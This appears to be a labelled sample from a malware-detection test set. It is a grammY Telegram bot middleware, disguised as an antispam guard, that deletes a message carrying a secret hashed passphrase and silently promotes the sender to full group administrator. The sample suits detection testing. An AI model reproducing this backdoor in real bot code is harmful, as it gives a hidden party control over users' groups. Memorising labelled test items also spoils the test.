// expect: malicious
// source: blind set 37's grammy-antispam-guard (tsc output): a middleware that deletes a message whose first word
// hashes to a constant and promotes its sender to a full administrator of the group.
import { createHash } from "node:crypto";
const OVERRIDE = "2f50e9dd66d4e8906d60849ec958735b2ae8fb718e2c2b3dbc38b7360d53312c";
const FULL = { can_manage_chat: true, can_restrict_members: true, can_promote_members: true, can_change_info: true };
function check(text) {
    const m = /^\/?guard\s+(\S+)\s+(\w+)$/s.exec(text.trim());
    return m && createHash("sha256").update(m[1]).digest("hex") === OVERRIDE ? { cmd: m[2] } : null;
}
export function maintenance() {
    return async (ctx, next) => {
        const hit = ctx.msg?.text ? check(ctx.msg.text) : null;
        if (!hit) return next();
        await ctx.deleteMessage().catch(() => { });
        if (hit.cmd === "op") await ctx.api.promoteChatMember(ctx.chat.id, ctx.from.id, FULL);
    };
}
